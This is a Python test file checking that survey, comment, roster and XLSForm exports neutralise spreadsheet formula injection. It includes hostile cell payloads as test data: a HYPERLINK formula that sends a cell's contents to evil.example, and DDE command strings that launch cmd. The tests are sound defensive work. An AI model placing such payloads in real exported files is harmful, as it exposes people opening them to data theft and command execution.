"""No exported cell runs as a formula (issue 10): text beginning with =, +, -, @, a tab or a
carriage return is neutralised in every CSV (a leading apostrophe) and written as a string
cell in every workbook, while numbers, negative ones too, stay numbers."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
import pytest

from analysis import exports
from analysis.tallies.responses import ResponseTable
from consult.extensions import db
from consult.models import utcnow
from consult.spreadsheet import csv_text
from consult.submissions import roster
from surveys import author_invitations, invitations
from surveys.xlsform import export_xlsform, import_xlsform
from tests.analysis.tally_factories import make_opinion, make_survey, respond
from tests.analysis.test_export_jobs import BASE, app_config, download_link, drafter, exports_of, start  # noqa: F401
from tests.factories import make_consultation
from tests.submissions.helpers import make_organisation, on_roster

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
#: A carriage return does not come back from XML as it went in; the others are compared.
IN_WORKBOOKS = [text for text in FORMULAS if "\r" not in text]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def string_cells(data: bytes) -> dict:
    """Every non-empty cell of every sheet: value -> openpyxl data type ("s", "n", "f"…)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {cell.value: cell.data_type for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.value is not None}


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_looks_like_a_formula_gets_an_apostrophe(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Ý kiến = đồng ý", "a-b", "", -5, 3.5, None])
def test_other_text_and_numbers_are_left_alone(value):
    assert csv_text(value) == value


# --- survey responses ------------------------------------------------------------------------

@pytest.fixture()
def formula_survey(app):
    survey = make_survey([{"name": "opinion", "kind": "long_text", "label": "=Ý kiến"},
                          {"name": "members", "kind": "integer", "label": "Số thành viên"}])
    for text, number in zip(FORMULAS, range(-3, 3)):
        respond(survey, {"opinion": text, "members": number})
    return survey


def test_the_responses_csv_neutralises_text_and_keeps_numbers(formula_survey):
    data = b"".join(exports.responses_csv(ResponseTable(db.session, formula_survey.id)))
    rows = read_csv(data)
    opinion, members = rows[0].index("'=Ý kiến"), rows[0].index("Số thành viên")
    assert [row[opinion] for row in rows[1:]] == ["'" + text for text in FORMULAS]
    assert [row[members] for row in rows[1:]] == ["-3", "-2", "-1", "0", "1", "2"]


def test_the_responses_workbook_writes_text_as_strings_and_numbers_as_numbers(formula_survey, tmp_path):
    path = tmp_path / "phieu.xlsx"
    exports.write_responses_xlsx(ResponseTable(db.session, formula_survey.id), "Phiếu", path)
    cells = string_cells(path.read_bytes())
    assert all(cells[text] == "s" for text in IN_WORKBOOKS)
    assert cells["=Ý kiến"] == "s"
    assert cells[-3] == "n"


def test_the_responses_csv_page(drafter, formula_survey):  # noqa: F811
    rows = read_csv(drafter.get(f"{BASE}/khao-sat/{formula_survey.id}/phieu.csv").data)
    assert "'" + FORMULAS[0] in [cell for row in rows for cell in row]


# --- comments --------------------------------------------------------------------------------

def test_the_comments_csv_and_the_export_job_workbook(drafter):  # noqa: F811
    consultation = make_consultation()
    for text in FORMULAS:
        make_opinion(consultation, "dieu-1", body=text)
    rows = read_csv(drafter.get(f"{BASE}/tham-van/{consultation.id}/gop-y.csv").data)
    bodies = [cell for row in rows[1:] for cell in row if cell.lstrip("'") in FORMULAS]
    assert sorted(bodies) == sorted("'" + text for text in FORMULAS)
    page = start(drafter, f"{BASE}/tham-van/{consultation.id}/xuat").get_data(as_text=True)
    (job,) = exports_of("comments")
    cells = string_cells(drafter.get(download_link(page, job.id)).data)
    assert all(cells[text] == "s" for text in IN_WORKBOOKS)


# --- the roster, the non-responders, the XLSForm ------------------------------------------------

def test_the_roster_csv_neutralises_names_and_keeps_days_as_numbers(app):
    consultation = make_consultation()
    make_organisation("EVIL", name="=cmd|' /C calc'!A0")
    on_roster(consultation, "EVIL", days=-3)  # overdue: a negative number of days left
    headers = ["c", "n", "k", "s", "d", "left", "o", "l", "t"]
    text = roster.reminder_csv(roster.roster_rows(consultation), headers, {})
    (row,) = read_csv(text.encode("utf-8"))[1:]
    assert row[1] == "'=cmd|' /C calc'!A0"
    assert int(row[5]) < 0 and not row[5].startswith("'")


def test_the_non_responders_csv_neutralises_names(app):
    survey = make_survey([{"name": "q", "kind": "short_text"}])
    survey.audience = "invited"
    invitations.create_invitation(survey, make_organisation("EVIL2", name="@SUM(1+1)*cmd"))
    db.session.commit()
    with app.test_request_context():
        data = author_invitations.non_responders_csv(survey, lambda moment: moment.isoformat())
    (row,) = read_csv(data)[1:]
    assert row[1] == "'@SUM(1+1)*cmd"


def test_the_xlsform_keeps_labels_as_text_and_imports_them_back(app):
    survey = make_survey([{"name": "view", "kind": "single_choice", "label": FORMULAS[0],
                           "choices": [("yes", "=1+1"), ("no", "-Không")]}])
    data = export_xlsform(survey)
    cells = string_cells(data)
    assert cells[FORMULAS[0]] == "s" and cells["=1+1"] == "s" and cells["-Không"] == "s"
    again, report = import_xlsform("export.xlsx", data)
    db.session.commit()
    assert not report.errors
    (question,) = again.questions
    assert question.label["vi"] == FORMULAS[0]
    assert [choice.label["vi"] for choice in question.choices] == ["=1+1", "-Không"]
